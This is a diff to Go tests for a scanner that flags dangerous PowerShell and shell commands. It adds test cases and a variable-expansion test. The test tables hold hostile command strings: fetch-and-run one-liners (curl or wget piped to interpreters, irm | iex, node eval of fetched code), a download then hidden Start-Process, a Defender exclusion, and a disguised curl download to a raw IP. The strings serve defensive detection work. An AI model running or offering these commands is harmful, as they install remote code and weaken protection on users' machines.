@@ -33,6 +33,13 @@ func TestPowerShellDanger(t *testing.T) {
 		"$s = irm https://dl.example.invalid/i.ps1 | iex":                                         true,
 		"powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA":                       true,
 		"certutil -urlcache -split -f http://dl.example.invalid/s.exe s.exe":                      true,
+		// saved to a file, then started lines later; saved and unpacked
+		"(New-Object Net.WebClient).DownloadFile($src, $dst)\nif (Test-Path $dst) {\n  Start-Process -FilePath $dst -WindowStyle Hidden\n}": true,
+		"Invoke-WebRequest -Uri $u -OutFile $zip\nExpand-Archive $zip -DestinationPath $dir":                                                false,
+		// a browser's installer downloaded and started in view
+		"$wc.DownloadFile($url, $msi)\nStart-Process msiexec.exe -ArgumentList \"/i $msi /quiet\" -Wait": false,
+		// Defender told to skip a directory
+		"Add-MpPreference -ExclusionPath $env:APPDATA\\svc": true,
 		// a build script: downloads a file, runs nothing it fetched
 		"Invoke-WebRequest -Uri $url -OutFile node.zip\nExpand-Archive node.zip -DestinationPath out": false,
 		"$v = Invoke-Expression 'git describe --tags'":                                                false,
@@ -73,6 +80,9 @@ func TestShellDanger(t *testing.T) {
 		"wget -qO- https://x.invalid/p.py | python3 -":                                   true,
 		"curl -s https://x.invalid/p.pl | perl":                                          true,
 		`node -e "$(curl -s https://x.invalid/p.js)"`:                                    true,
+		// run when the download is there
+		"curl -fsSL -o /tmp/x https://x.invalid/x ; if [ -s /tmp/x ]; then ; chmod 755 /tmp/x":          true,
+		"curl -fsSL -o n.tgz https://x.invalid/n.tgz ; if [ -s n.tgz ]; then ; tar xzf n.tgz -C vendor": false,
 		// an inline script that fetches code and runs it
 		`node -e "require('https').get('https://x.invalid/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"`: true,
 		`node -e "fetch('https://x.invalid/p').then(r=>r.text()).then(t=>new Function(t)())"`:                              true,
@@ -262,5 +272,22 @@ func TestExpandPSVars(t *testing.T) {
 	// a variable set at run time stays a reference
 	if got := ExpandPSVars("$p = Get-Content a.txt\nrun $p\n"); got != "$p = Get-Content a.txt\nrun $p\n" {
 		t.Errorf("ExpandPSVars of a run-time value = %q", got)
+	}
+}
+
+// TestExpandShellVars covers a shell script whose download command is
+// kept in a variable: the expanded script shows it to ShellDanger.
+func TestExpandShellVars(t *testing.T) {
+	script := "#!/bin/sh\nDL=\"curl -fsSL -o\"\nCACHE=\"${HOME}/.cache/x\"\n$DL \"$CACHE/h\" \"http://198.51.100.23/dl/h\" 2>/dev/null\nchmod 755 \"$CACHE/h\"\n"
+	if ShellDanger(JoinScript(script)) != "" {
+		t.Fatalf("ShellDanger found the download before expansion: the test shows nothing")
+	}
+	got := ExpandShellVars(script)
+	if !strings.Contains(got, "curl -fsSL -o \"$CACHE/h\"") || ShellDanger(JoinScript(got)) == "" {
+		t.Errorf("ExpandShellVars = %q, ShellDanger %q", got, ShellDanger(JoinScript(got)))
+	}
+	// a variable set from a command stays a reference
+	if got := ExpandShellVars("V=$(uname -m)\necho $V\n"); got != "V=$(uname -m)\necho $V\n" {
+		t.Errorf("ExpandShellVars of a command's output = %q", got)
 	}
 }
